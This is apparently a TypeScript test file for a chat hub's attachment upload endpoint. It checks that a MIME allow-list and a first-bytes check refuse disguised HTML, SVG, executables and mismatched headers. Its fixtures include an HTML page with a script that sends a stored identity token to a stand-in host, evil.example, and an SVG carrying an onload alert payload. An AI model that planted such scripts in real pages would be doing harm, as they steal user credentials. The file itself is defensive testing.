import t, { type Test } from 'tap'
import { http, startHub } from '../../helper.js'
import { identify, WH } from '../../plugins/watering-hole/ws-client.js'

// Issue 13.7: widget uploads pass a MIME allow-list, checked on the declared type and on the file's first bytes.

const SECRET = 'test-identity-secret-0123456789abcdef'
const PNG = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex')
const PAGE = Buffer.from('<!DOCTYPE html><html><body><script>fetch("https://evil.example/?" + localStorage.getItem("watering-hole.identity"))</script></body></html>')
const SVG = Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>')

async function hubWith (t: Test, extra: Record<string, unknown> = {}) {
  const hub = await startHub(t, { channels: [{ id: 'watering-hole', plugin: './plugins/watering-hole', cxoneChannelId: 'chat_watering-hole', config: { identitySecret: SECRET, ...extra } }] })
  const me = await identify(hub.url)
  return (friendlyName: string, mimeType: string, content: Buffer) =>
    http('POST', `${hub.url}${WH}/attachments`, { friendlyName, mimeType, contentBase64: content.toString('base64') }, { authorization: `Bearer ${me.token}` })
}

t.test('default allow-list: images, PDF and plain text pass when their bytes agree', async t => {
  const upload = await hubWith(t)
  for (const [name, type, content] of [
    ['pond.png', 'image/png', PNG],
    ['map.pdf', 'application/pdf', Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj <<>> endobj\n')],
    ['note.txt', 'text/plain', Buffer.from('The water is low at the north bank. <b>not</b> a page.\n')],
    ['zebra.gif', 'image/gif', Buffer.from('GIF89a\x01\x00\x01\x00', 'latin1')]
  ] as const) {
    const res = await upload(name, type, content)
    t.equal(res.status, 201, `${name} (${type}) accepted: ${JSON.stringify(res.body)}`)
  }
})

t.test('refused with BYOC_WATERING_HOLE_ERR_ATTACHMENT_TYPE: disguised pages, scriptable and unlisted types', async t => {
  const upload = await hubWith(t)
  for (const [label, name, type, content] of [
    ['an HTML page renamed .png', 'photo.png', 'image/png', PAGE],
    ['an HTML page declared as text', 'notes.txt', 'text/plain', PAGE],
    ['an HTML page declared as PDF', 'doc.pdf', 'application/pdf', PAGE],
    ['HTML as itself', 'page.html', 'text/html', PAGE],
    ['SVG (scriptable)', 'logo.svg', 'image/svg+xml', SVG],
    ['a JPEG header on a PNG claim', 'x.png', 'image/png', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10])],
    ['binary declared as text', 'x.txt', 'text/plain', Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03])],
    ['an executable', 'setup.exe', 'application/x-msdownload', Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03])]
  ] as const) {
    const res = await upload(name, type, content)
    t.equal(res.status, 415, `${label}: 415`)
    t.equal(res.body.error?.code, 'BYOC_WATERING_HOLE_ERR_ATTACHMENT_TYPE', `${label}: stable code`)
  }
})

t.test('allowedMimeTypes: a wildcard family still never lets markup through', async t => {
  const upload = await hubWith(t, { allowedMimeTypes: ['image/*'] })
  t.equal((await upload('pond.png', 'image/png', PNG)).status, 201, 'image/png under image/*')
  t.equal((await upload('logo.svg', 'image/svg+xml', SVG)).status, 415, 'SVG markup refused even under image/*')
  t.equal((await upload('photo.bmp', 'image/bmp', PAGE)).status, 415, 'a page under an image type without a known signature')
  t.equal((await upload('note.txt', 'text/plain', Buffer.from('hi'))).status, 415, 'text/plain no longer listed')
})
